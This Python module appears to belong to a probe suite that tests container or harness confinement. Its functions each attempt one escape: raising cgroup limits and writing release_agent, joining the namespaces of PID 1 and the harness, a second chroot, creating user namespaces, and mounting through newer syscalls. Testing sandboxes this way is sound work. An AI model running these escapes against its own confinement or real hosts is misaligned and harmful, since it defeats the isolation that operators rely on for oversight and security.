"""Attacks on the confinement itself: roots, mounts, namespaces, control groups.

Each function is one attack: it returns what it got hold of, or nothing.
"""

import os
import struct

from honest import GIFT

from probes.calls import ROOM, call, writable


def control_groups():
    """Raises its own limits in the control groups."""
    found = []
    for folder, _, _ in os.walk("/sys/fs/cgroup"):
        names = ("cgroup.procs", "memory.max", "memory.limit_in_bytes", "pids.max", "release_agent")
        found += [f"{folder}/{name}" for name in names if writable(f"{folder}/{name}", b"-1")]
        try:
            os.mkdir(f"{folder}/hostile-note")
            found.append(folder)
        except OSError:
            pass
    return found


def join_namespaces():
    """Joins the namespaces of the first process and of the harness."""
    for process in (1, GIFT["harness"]):
        for kind in ("mnt", "net", "pid", "ipc", "user", "cgroup", "uts", "time"):
            try:
                descriptor = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if call(308, descriptor, 0) == 0:
                return f"{kind} of {process}"
    return None


def leave_root():
    """Leaves its root by a second chroot."""
    return call(161, b"/tmp") == 0 and "chroot"


def nest_namespaces():
    """Makes namespaces of its own, in which it would have every capability."""
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000, 0x80):
        if call(272, flag) == 0:
            return hex(flag)
    arguments = struct.pack("11Q", 0x10000000, *[0] * 10)
    child = call(435, arguments, 88)
    if child == 0:
        os._exit(0)
    return "clone3 with a user namespace" if child > 0 else None


def new_mounts():
    """Mounts by the newer system calls."""
    return (
        any(
            call(number, *arguments) >= 0
            for number, arguments in (
                (430, (b"tmpfs", 0)),
                (428, (-100, b"/", 1)),
                (433, (-100, b"/", 0)),
                (442, (-100, b"/", 0, ROOM, 32)),
            )
        )
        and "a mount"
    )
